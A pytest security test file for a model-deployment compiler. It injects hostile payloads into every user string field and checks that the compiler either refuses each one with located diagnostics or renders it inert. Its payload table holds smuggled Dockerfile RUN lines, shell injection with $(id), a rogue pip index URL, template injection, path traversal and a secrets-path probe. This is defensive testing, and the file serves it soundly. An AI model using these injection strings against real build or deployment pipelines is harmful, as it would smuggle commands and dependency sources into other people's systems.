"""Hostile values in every user string field of every kind: refused with a location, or rendered inert.

For each string slot of the probe repo (every field of every kind, and every key of a user-named
mapping — see probe_repo.py) and each payload below, the repo either
  * fails validation with located diagnostics (file:line:col inside the repo, a field path, one
    of them at the slot itself, no raw control character in any message — they reach terminals
    and CI logs), and never an exception; or
  * renders, and every artifact parsed back the way its consumer reads it has the baseline's
    shape: the same Dockerfile instructions (RUN/COPY/… verbatim, ENV and LABEL as KEY="quoted"),
    the same requirements lines, the same Kubernetes objects and keys, the same bundle members,
    no new MODELCTL_* variable and the runtime's own values unchanged, and no secret value
    anywhere in the output.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from compiler.diagnostics import DiagnosticError
from compiler.load import parse_text
from compiler.pipeline import compile_repo
from compiler.render import render_graph
from compiler.targets import TARGET_TYPES

from artifacts import dockerfile_shape, parsed, walk_env, walk_keys
from probe_repo import DOCUMENTS, SECRET_VALUES, model_slots, replaced, slots, write

MARK = "INJECTED"
PAYLOADS = {
    "newline": f"x\nRUN touch /{MARK}\n{MARK}: 1",
    "continuation": f"x\\\nRUN touch /{MARK}",
    "shell": f'"; touch /{MARK}; echo "$(id)`id`\'',
    "pip-option": f"--index-url http://{MARK}.example/simple",
    "template": "{{ 7*7 }}{% if true %}" + MARK + "{% endif %}",
    "path-escape": f"../../../../{MARK}",
    "nul": f"a\0{MARK}",
    "secret-path": ".modelctl/secrets/keys",
    "runtime-env": "MODELCTL_AUTH_MODE",
}
SLOTS = slots()


def _runtime_files(rel: str) -> bool:
    return "modelctl_runtime" in rel.split("/") or rel.endswith("runtime-requirements.txt") or rel == "manifest.json"


def shape(out: Path) -> dict:
    """Everything the invariants compare, per rendered file."""
    result = {}
    for path in sorted(p for p in out.rglob("*") if p.is_file()):
        rel = path.relative_to(out).as_posix()
        if _runtime_files(rel):
            continue
        data = path.read_bytes()
        for secret in SECRET_VALUES.values():
            assert secret.encode() not in data, f"secret value rendered into {rel}"
        if path.name == "Dockerfile":
            result[rel] = dockerfile_shape(data.decode())
        elif path.name == "requirements.txt":
            lines = data.decode().split("\n")
            assert not [line for line in lines if line.lstrip().startswith("-")], f"a pip option in {rel}"
            result[rel] = len(lines)
        elif rel.startswith(("images/", "fpga/")) and "/models/" in rel or "/score/" in rel:
            result[rel] = "copy"
        else:
            value = parsed(path)
            env = sorted(walk_env(value))
            result[rel] = {
                "objects": [
                    (d.get("kind"), (d.get("metadata") or {}).get("name")) for d in value if isinstance(d, dict)
                ]
                if isinstance(value, list)
                else None,
                "keys": sorted(set(walk_keys(value))) if not isinstance(value, str) else None,
                "runtime_env": [
                    (k, v) for k, v in env if k.startswith("MODELCTL_") and k != "MODELCTL_DATA_COLLECTION"
                ],
                "lines": len(value.split("\n")) if isinstance(value, str) else None,
            }
    return result


@pytest.fixture(scope="module")
def baseline(tmp_path_factory) -> dict:
    root = write(tmp_path_factory.mktemp("baseline") / "repo", DOCUMENTS)
    out = root.parent / "out"
    render_graph(compile_repo(root).require(), out, types=TARGET_TYPES)
    return shape(out)


def test_every_string_field_is_probed():
    """A string field added to a kind without a value in the probe repo would go unprobed."""
    missing = model_slots() - {s[3] for s in SLOTS}
    assert not missing, f"add these fields to tests/security/probe_repo.py DOCUMENTS: {sorted(missing)}"


def _at_slot(docs: dict, file: str, path: tuple, where: str) -> int:
    raw = parse_text(json.dumps(docs[file], indent=1) + "\n", file)[0][0]
    return raw.locate(path, key=where == "key").line


@pytest.mark.parametrize(
    "slot", SLOTS, ids=[f"{s[0]}:{'.'.join(map(str, s[1]))}{':key' if s[2] == 'key' else ''}" for s in SLOTS]
)
def test_hostile_value_is_refused_or_inert(slot, baseline, tmp_path):
    file, path, where, _name = slot
    for label, payload in PAYLOADS.items():
        docs = replaced(DOCUMENTS, file, path, where, payload)
        root = write(tmp_path / label / "repo", docs)
        compiled = compile_repo(root)
        errors = [d for d in compiled.diagnostics if d.severity == "error"]
        context = f"payload {label!r} at {file}:{'.'.join(map(str, path))}"
        if errors:
            for d in errors:
                assert d.location is not None and d.location.line >= 1, f"{context}: unlocated: {d.headline()}"
                assert (root / d.location.file).is_file(), f"{context}: located outside the repo: {d.location}"
                for text in (d.message, d.path, d.expected or "", d.suggestion or ""):
                    assert not any(ch in text for ch in "\n\r\0\x1b"), f"{context}: raw control character: {text!r}"
            line = _at_slot(docs, file, path[:-1] + (payload,) if where == "key" else path, where)
            own = [d for d in errors if d.location.file == file]
            # The value is refused where it is written; a value valid on its own may break a rule that
            # another document checks (an architecture that no longer matches), reported there.
            assert any(d.location.line == line for d in own) or not own, (
                f"{context}: no error at {file}:{line}: {[d.headline() for d in errors]}"
            )
            continue
        out = tmp_path / label / "out"
        try:
            render_graph(compiled.require(), out, types=TARGET_TYPES)
        except DiagnosticError as err:  # a render-time refusal is a diagnostic, never a traceback
            assert all(d.location is not None for d in err.diagnostics), f"{context}: {err}"
            continue
        got = shape(out)
        for rel, want in baseline.items():
            assert rel in got, f"{context}: {rel} was not rendered"
            if isinstance(want, dict) and "objects" in want:
                new = set(got[rel]["keys"] or ()) - set(want["keys"] or ())
                # A key may change only where the slot was a user-chosen key, and only to the payload itself.
                assert new <= ({payload} if where == "key" else set()), f"{context}: new keys in {rel}: {new}"
                assert not [k for k in got[rel]["keys"] or () if MARK in k and k != payload], f"{context}: {rel}"
                assert got[rel]["lines"] == want["lines"], f"{context}: lines added to {rel}"
                assert got[rel]["objects"] == want["objects"], f"{context}: objects changed in {rel}"
                assert got[rel]["runtime_env"] == want["runtime_env"], f"{context}: runtime settings changed in {rel}"
            elif isinstance(want, dict) and "keywords" in want:  # a Dockerfile
                assert got[rel]["keywords"] == want["keywords"], f"{context}: instructions changed in {rel}"
                assert got[rel]["verbatim"] == want["verbatim"], f"{context}: RUN/COPY/… changed in {rel}"
                assert len(got[rel]["env"]) == len(want["env"]), f"{context}: ENV lines changed in {rel}"
                assert not [k for k in got[rel]["env"] if k.startswith("MODELCTL_")], f"{context}: {rel}"
                assert got[rel]["labels"] == want["labels"], f"{context}: labels changed in {rel}"
            else:
                assert got[rel] == want, f"{context}: {rel} changed shape: {got[rel]!r} != {want!r}"
        assert set(got) == set(baseline), f"{context}: rendered files differ: {set(got) ^ set(baseline)}"
        shutil.rmtree(tmp_path / label, ignore_errors=True)
